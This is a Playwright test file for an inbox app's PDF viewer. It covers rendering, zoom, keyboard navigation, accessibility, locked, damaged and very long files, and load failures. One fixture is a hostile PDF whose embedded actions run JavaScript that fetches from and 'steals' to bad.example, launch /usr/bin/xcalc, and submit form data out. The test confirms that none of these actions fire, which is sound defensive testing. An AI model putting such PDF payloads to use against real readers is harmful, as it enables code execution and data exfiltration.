import type { Locator, Page } from '@playwright/test';
import { apiCall } from '../scripts/api-call.ts';
import { createImage } from '../scripts/seed/image.ts';
import { connectInstallation } from '../scripts/seed/installation.ts';
import { createPdf, type PdfOptions } from '../scripts/seed/pdf.ts';
import { openSandbox } from '../scripts/seed/sandbox.ts';
import { expectAccessible, expectNoHorizontalScroll } from './support/accessibility.ts';
import { visit } from './support/addresses.ts';
import { waitForThread } from './support/api.ts';
import { expect, signIn, test } from './support/test.ts';

const plain = createPdf(['Prices 2026', 'Delivery']);
/** Everything a PDF may try when it is opened, shown, clicked and closed. */
const hostile: PdfOptions = {
  catalog: `/OpenAction 100 0 R /AA << /WC 100 0 R >> /Names << /JavaScript << /Names [(run) 100 0 R] >> >>
    /AcroForm << /Fields [103 0 R] /XFA 105 0 R >>`,
  page: '/AA << /O 100 0 R >> /Annots [101 0 R 102 0 R 103 0 R]',
  objects: [
    `<< /S /JavaScript /JS (app.alert\\("run"\\); fetch\\("https://bad.example/js"\\); parent.stolen = 1;) /Next 104 0 R >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI (https://bad.example/link) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/usr/bin/xcalc) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 100 20] /AA << /E 100 0 R /C 100 0 R >> >>',
    '<< /S /SubmitForm /F << /FS /URL /F (https://bad.example/form) >> /Fields [103 0 R] >>',
    '<< /Length 74 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a href="//bad.example"/></x>\nendstream',
  ],
};
/** The content of a file encrypted with an unknown password. */
const locked = createPdf('Secret', {
  objects: [`<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`],
  trailer: `/Encrypt 100 0 R /ID [<${'43'.repeat(16)}> <${'43'.repeat(16)}>]`,
});
const broken = Buffer.from('%PDF-1.4\n% nothing but a beginning\n');

/** The number of points of a page that are not white. */
const inked = (page: Page, number: number) =>
  page.evaluate<number>(`(() => {
    const canvas = document.querySelector('[data-page="${number}"] canvas');
    if (canvas === null) return 0;
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
    let dark = 0;
    for (let at = 0; at < data.length; at += 4) if (data[at] < 128) dark += 1;
    return dark;
  })()`);

/** A key scrolls only what is there, so the last page is laid out first. */
async function toTheEnd(viewer: Locator, last: number, place: string): Promise<void> {
  await expect(viewer.locator(`[data-page="${last}"]`)).toBeAttached();
  await expect(viewer.locator('[data-pages]')).toBeFocused();
  await viewer.page().keyboard.press('End');
  await expect(viewer).toContainText(place);
}

// Files are loaded through the service worker.
test.use({ serviceWorkers: 'allow' });

test('PDFs are shown on our own page, and nothing in them runs', async ({ page, home, context, watch }) => {
  test.setTimeout(300_000);
  const { server, user } = home;
  const token = await home.token();
  const installation = await connectInstallation(server.dataDir, server.url, async () => undefined);
  const account = await apiCall<{ client_id: string }>(server.url, 'GET', '/api/client', undefined, token);
  const sandbox = await openSandbox(installation, account.client_id);
  const phone = await sandbox.makePhone({ name: 'Amara Okafor', phone_number: '447700900119' });
  const send = (filename: string, content: Buffer) =>
    sandbox.write(phone, 'document', { data: content.toString('base64'), mime_type: 'application/pdf', filename });
  const photo = createImage([41, 98, 107], [226, 214, 188], 320, 240);
  await sandbox.write(phone, 'image', { data: photo.toString('base64'), mime_type: 'image/png', caption: 'The shop' });
  const threadId = await waitForThread(server, token, 'The shop');
  await send('Prices 2026.pdf', plain);
  await send('Hostile.pdf', createPdf(['Looks harmless', 'Second page'], hostile));
  await send('Locked.pdf', locked);
  await send('Broken.pdf', broken);
  await send('Long.pdf', createPdf(Array.from({ length: 1_003 }, (_one, n) => `Sheet ${n + 1}`)));
  await signIn(page, server, user);
  await visit(page, `${server.url}/inbox/${threadId}`);
  const viewer = page.getByRole('dialog', { name: 'Pictures, videos and documents' });
  const show = (name: string) => page.getByRole('button', { name: `Show the document: ${name}`, exact: false });

  await test.step('a click shows its pages; keys and buttons zoom and navigate', async () => {
    const card = show('Prices 2026.pdf');
    await expect(page.getByRole('button', { name: 'Show the picture: The shop' })).toBeVisible();
    await expect(page.getByRole('link', { name: 'Save Prices 2026.pdf' })).toHaveAttribute('href', /^\/media\//);
    const parts: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/media/')) parts.push(request.headers()['range'] ?? 'whole');
    });
    await card.focus();
    await page.keyboard.press('Enter');
    await expect(viewer.getByRole('img', { name: 'Page 1 of 2' })).toBeVisible();
    await expect.poll(() => inked(page, 1)).toBeGreaterThan(100);
    await expect.poll(() => inked(page, 2)).toBeGreaterThan(50);
    await expect(viewer.getByText('Prices 2026')).toBeAttached();
    expect(parts.filter((part) => part.startsWith('bytes='))).not.toHaveLength(0);
    await expect(viewer).toContainText('Page 1 of 2');
    await expectAccessible(page, 'a PDF in the viewer', { part: 'dialog:modal' });
    const first = viewer.locator('[data-page="1"]');
    const before = (await first.boundingBox())?.width ?? 0;
    await page.keyboard.press('+');
    await expect.poll(async () => ((await first.boundingBox())?.width ?? 0) / before).toBeCloseTo(1.25, 1);
    await expect(viewer).toContainText('125%');
    await expect.poll(() => inked(page, 1)).toBeGreaterThan(100);
    await viewer.getByRole('button', { name: 'Smaller' }).click();
    await expect(viewer).toContainText('100%');
    await viewer.getByRole('region', { name: 'Prices 2026.pdf' }).focus();
    await toTheEnd(viewer, 2, 'Page 2 of 2');
    await page.keyboard.press('ArrowLeft');
    await expect(viewer.getByRole('img', { name: 'The shop' })).toBeVisible();
    // The first file has no previous one: its button disappears, and keys still work.
    await page.keyboard.press('ArrowRight');
    await viewer.getByRole('button', { name: 'Earlier' }).press('Enter');
    await expect(viewer.getByRole('img', { name: 'The shop' })).toBeVisible();
    await page.keyboard.press('ArrowRight');
    await expect(viewer.getByRole('img', { name: 'Page 1 of 2' })).toBeVisible();
    await page.setViewportSize({ width: 390, height: 844 });
    await expect.poll(() => inked(page, 1)).toBeGreaterThan(50);
    await expectNoHorizontalScroll(page, 'a PDF in the viewer');
    await page.setViewportSize({ width: 1440, height: 900 });
    await page.keyboard.press('Escape');
    await expect(viewer).toBeHidden();
    await expect(card).toBeFocused();
  });

  await test.step('programs, links and forms in it do nothing, and nothing is sent', async () => {
    await show('Hostile.pdf').click();
    await expect.poll(() => inked(page, 1)).toBeGreaterThan(100);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await viewer.locator('[data-page="1"]').click({ position: { x: 60, y: 60 } });
    await expect(viewer.locator('a:not([download])')).toHaveCount(0);
    await expect(viewer.locator('input, iframe, object, embed')).toHaveCount(0);
    await toTheEnd(viewer, 2, 'Page 2 of 2');
    await expect.poll(() => inked(page, 2)).toBeGreaterThan(50);
    expect(await page.evaluate('window.stolen')).toBeUndefined();
    expect(page.url()).toBe(`${server.url}/inbox/${threadId}`);
    expect(context.pages()).toHaveLength(1);
    expect(dialogs).toEqual([]);
    await page.keyboard.press('Escape');
    await expect(viewer).toBeHidden();
  });

  await test.step('encrypted, damaged and long files say so, and can be saved', async () => {
    for (const [name, words] of [
      ['Locked.pdf', 'This PDF is password-protected.'],
      ['Broken.pdf', 'Can’t open this PDF; it may be damaged.'],
    ] as const) {
      await show(name).click();
      await expect(viewer.getByRole('alert')).toContainText(words);
      const save = viewer.getByRole('alert').getByRole('link', { name: 'Download file' });
      await expect(save).toHaveAttribute('href', /^\/media\//);
      await expectAccessible(page, name, { part: 'dialog:modal' });
      await page.keyboard.press('Escape');
      await expect(viewer).toBeHidden();
    }
    await show('Long.pdf').click();
    await expect(viewer).toContainText('Page 1 of 1,003');
    await toTheEnd(viewer, 1_000, 'Page 1,000 of 1,003');
    await expect(
      viewer.getByText('Showing the first 1,000 of 1,003 pages. Download the file to see all pages.'),
    ).toBeVisible();
    await expect.poll(() => inked(page, 1_000)).toBeGreaterThan(50);
    // Pages far from the visible area release their memory.
    await expect.poll(() => viewer.locator('canvas').count()).toBeLessThan(12);
    await page.keyboard.press('Escape');
    await expect(viewer).toBeHidden();
  });

  await test.step('when its bytes cannot be loaded it says so, and can be retried', async () => {
    await context.route(/\/media\//, (route) => route.abort());
    watch.expect(/ERR_FAILED/, /\/media\//);
    await show('Prices 2026.pdf').click();
    await expect(viewer.getByRole('alert')).toContainText('Couldn’t load the file.');
    await context.unroute(/\/media\//);
    await viewer.getByRole('button', { name: 'Try again' }).click();
    await expect.poll(() => inked(page, 1)).toBeGreaterThan(100);
  });
  await installation.close();
});
